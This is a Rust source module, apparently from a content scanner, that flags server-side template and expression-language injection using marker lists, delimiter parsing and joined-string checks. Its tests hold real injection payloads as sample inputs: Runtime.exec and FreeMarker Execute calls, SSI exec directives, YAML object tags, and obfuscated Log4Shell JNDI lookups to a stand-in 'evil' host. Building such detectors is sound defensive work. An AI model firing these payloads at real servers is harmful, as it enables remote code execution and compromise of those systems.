//! Templates and expression languages: a text that a server's engine would run, not print
//! (CWE-1336, CWE-917).
//!
//! `{{name}}` is how people write about templates, and how an engine prints a name: it passes. What counts is
//! an expression that computes, calls, or reaches for what engines keep inside.

mod expression;

use std::ops::Range;
use std::sync::LazyLock;

use crate::bytes::{at, is_name, next, part, span};
use crate::classes::Classes;
use crate::found::{Look, Reason};
use crate::fuel::Fuel;
use crate::phrases::Phrases;

const CODE: Reason = Reason {
    name: "template-server-code",
    text: "is code that a server's engine runs when it meets it",
};
const INCLUDE: Reason =
    Reason { name: "template-server-side-include", text: "is a directive of server-side includes" };
const LOOKUP: Reason =
    Reason { name: "template-lookup", text: "makes a logger or a configuration look something up" };
const OBJECT: Reason = Reason {
    name: "template-object",
    text: "makes a reader of YAML build an object of a class it names",
};
const RUNTIME: Reason =
    Reason { name: "template-runtime", text: "reaches the runtime behind an expression language" };
const PIECES: Reason = Reason {
    name: "template-joined-pieces",
    text: "joins pieces of a word to hide it from filters",
};

/// What needs no expression around it. Matched in any case.
const MARKS: [(&str, Reason); 43] = [
    ("<!--#exec", INCLUDE),
    ("<!--#include", INCLUDE),
    ("<!--#echo", INCLUDE),
    ("<!--#config", INCLUDE),
    ("<!--#printenv", INCLUDE),
    ("<!--#set", INCLUDE),
    ("<esi:include", INCLUDE),
    ("<#assign", CODE),
    ("[#assign", CODE),
    ("<#include", CODE),
    ("#set($", CODE),
    ("#set ($", CODE),
    ("#set( $", CODE),
    ("#evaluate(", CODE),
    ("{php}", CODE),
    ("{$smarty", CODE),
    ("{system(", CODE),
    ("{exec(", CODE),
    ("{if system(", CODE),
    ("{self::", CODE),
    ("<?php", CODE),
    ("<jsp:", CODE),
    ("__import__(", CODE),
    ("server.scripttimeout", CODE),
    ("t(java.lang", RUNTIME),
    ("t(org.springframework", RUNTIME),
    ("@java.lang.", RUNTIME),
    ("java.lang.runtime.getruntime", RUNTIME),
    ("getruntime().exec", RUNTIME),
    ("new java.lang.processbuilder", RUNTIME),
    ("#_memberaccess", RUNTIME),
    ("%{(#", RUNTIME),
    ("%{#context", RUNTIME),
    ("class.module.classloader", RUNTIME),
    ("freemarker.template.utility", RUNTIME),
    ("utility.objectconstructor", RUNTIME),
    ("${jndi:", LOOKUP),
    ("!!python/", OBJECT),
    ("!!javax.", OBJECT),
    ("!!java.", OBJECT),
    ("!!com.sun.", OBJECT),
    ("!ruby/object", OBJECT),
    ("!ruby/hash", OBJECT),
];

static FINDER: LazyLock<Phrases> =
    LazyLock::new(|| Phrases::of(MARKS.iter().map(|(mark, _)| *mark)));

/// Signs between which an expression may stand.
const SIGNS: [(&[u8], &[u8], Delimiter, Classes); 9] = [
    signs(b"{{", b"}}", Delimiter::Curly),
    signs(b"${", b"}", Delimiter::Dollar),
    signs(b"#{", b"}", Delimiter::Dollar),
    signs(b"*{", b"}", Delimiter::Dollar),
    signs(b"~{", b"}", Delimiter::Dollar),
    signs(b"{%", b"%}", Delimiter::Statement),
    signs(b"<%", b"%>", Delimiter::Statement),
    signs(b"[[", b"]]", Delimiter::Arithmetic),
    signs(b"@(", b")", Delimiter::Arithmetic),
];

/// With the kinds of bytes that both are made of.
const fn signs(
    opening: &'static [u8],
    closing: &'static [u8],
    delimiter: Delimiter,
) -> (&'static [u8], &'static [u8], Delimiter, Classes) {
    (opening, closing, delimiter, Classes::of_constant(opening).and(Classes::of_constant(closing)))
}

/// What pieces of a word are joined with.
const OF_JOINTS: Classes = Classes::of_constant(b"\"&");

/// Passes over the text, at most: marks, pieces, and each kind of delimiters, most of them only searched for.
const PASSES: usize = 8;

/// Ends inside strings that are passed over, at most.
const STRINGS_MAX: usize = 3;

/// How strictly what stands between two of them is judged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Delimiter {
    /// `{{ }}`: nothing but templates is written so.
    Curly,
    /// `${ }`: shells, programs and pages about both write so, too.
    Dollar,
    /// `{% %}`: a statement, which does something.
    Statement,
    /// `[[ ]]`: links of wikis. Only what computes.
    Arithmetic,
}

pub(crate) fn look(text: &str, classes: Classes, fuel: &mut Fuel) -> Look {
    let could_join = classes.have_all(OF_JOINTS);
    let could_open = SIGNS.iter().any(|(.., needs)| classes.have_all(*needs));
    if !could_join && !could_open && !FINDER.could_be_in(classes) {
        return Ok(None);
    }
    fuel.burn(text.len() * PASSES)?;
    let bytes = text.as_bytes();
    if let Some(found) = FINDER.find(text, classes) {
        let reason = MARKS.get(found.pattern().as_usize()).map_or(CODE, |(_, reason)| *reason);
        return Ok(Some((reason, span(text, found.range()))));
    }
    if could_join && let Some(range) = joined_pieces(bytes) {
        return Ok(Some((PIECES, span(text, range))));
    }
    Ok(expressions(bytes, classes).map(|(reason, range)| (reason, span(text, range))))
}

/// One pass for each kind of delimiters, so that none hides another. In a pass each expression is read once:
/// the next begins where this one ends.
fn expressions(bytes: &[u8], classes: Classes) -> Option<(Reason, Range<usize>)> {
    let could_stand = SIGNS.iter().filter(|(.., needs)| classes.have_all(*needs));
    could_stand.into_iter().find_map(|(opening, closing, delimiter, _)| {
        let mut position = 0;
        while let Some(start) = next(bytes, position, opening) {
            let end = close(bytes, start + opening.len(), closing)?;
            if let Some(reason) =
                expression::judge(part(bytes, start + opening.len()..end), *delimiter)
            {
                return Some((reason, start..end + closing.len()));
            }
            position = end + closing.len();
        }
        None
    })
}

/// Where an expression ends: not inside one of its strings, if it ends anywhere else.
fn close(bytes: &[u8], from: usize, closing: &[u8]) -> Option<usize> {
    let mut end = next(bytes, from, closing)?;
    for _ in 0..STRINGS_MAX {
        if !ends_in_string(part(bytes, from..end)) {
            break;
        }
        let Some(further) = next(bytes, end + closing.len(), closing) else { break };
        end = further;
    }
    Some(end)
}

fn ends_in_string(content: &[u8]) -> bool {
    let mut open = None;
    for byte in content {
        match open {
            None if matches!(byte, b'"' | b'\'') => open = Some(byte),
            Some(quote) if quote == byte => open = None,
            _ => {}
        }
    }
    open.is_some()
}

/// `"Ex"&"e"&"cute("`: three pieces or more, none longer than a syllable or two.
fn joined_pieces(bytes: &[u8]) -> Option<Range<usize>> {
    const JOINTS: usize = 3;
    const PIECE_BYTES_MAX: usize = 8;
    let (mut joints, mut first, mut last) = (0, 0, 0);
    for joint in memchr::memmem::find_iter(bytes, b"\"&\"") {
        if joint - last > PIECE_BYTES_MAX || joints == 0 {
            (joints, first) = (0, joint);
        }
        joints += 1;
        last = joint + 3;
        if joints >= JOINTS && is_name(at(bytes, last)) {
            return Some(first..last);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reason(text: &str) -> Option<&'static str> {
        look(text, Classes::of(text), &mut Fuel::new(1 << 20))
            .expect("fuel")
            .map(|(reason, _)| reason.name)
    }

    #[test]
    fn expressions_that_do_something_are_found() {
        for text in [
            "{{7*7}}",
            "{{7*'7'}}",
            "${7*7}",
            "${{7*7}}",
            "#{16*8787}",
            "<%= 7 * 7 %>",
            "@(1+2)",
            "[[5*5]]",
            "{{config.items()}}",
            "{{\"}}\"~config.items()}}",
            "${ a {{config.items()}} }",
            "[[ {{config.items()}} ]]",
            "{{''.__class__.__mro__}}",
            "{{request|attr('application')}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{% for x in config %}{% endfor %}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://evil/a}",
            "${${lower:j}ndi:ldap://evil/a}",
            "${${::-j}${::-n}di:rmi://evil}",
            "${self.module.cache.util.os.system(\"id\")}",
            "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
            "<!--#exec cmd=\"ls\" -->",
            "{$smarty.version}",
            "!!python/object/new:exec [x]",
            "${@print(md5(31337))}",
        ] {
            assert!(reason(text).is_some(), "{text}");
        }
    }

    #[test]
    fn an_expression_is_found_whatever_prose_stands_around_it() {
        // An advisory that quotes an exploit and a letter that holds one are the same text.
        let text = "All versions up to 2.0 are vulnerable, as was found by a reader of ours. To see it, render \
                    ${eval(\"require('child_process').execSync('ls')\")} as a name. This was withdrawn since.";
        assert_eq!(reason(text), Some("template-inside"));
    }

    #[test]
    fn names_in_braces_and_programs_pass() {
        for text in [
            "use {{name}} in your template",
            "{{ user.name }} and {{>partial}} and {{#each items}}{{this}}",
            "${HOME}/bin and ${VAR:-default}",
            "${{ secrets.TOKEN }}",
            "`hello ${user.name}`",
            "Hello #{name}",
            "[[Main Page]]",
            "{% raw %}",
            "see {section 5}",
            "bob@(company)",
            "100% {sure}",
            "java.lang.RuntimeException: x",
        ] {
            assert_eq!(reason(text), None, "{text}");
        }
    }
}
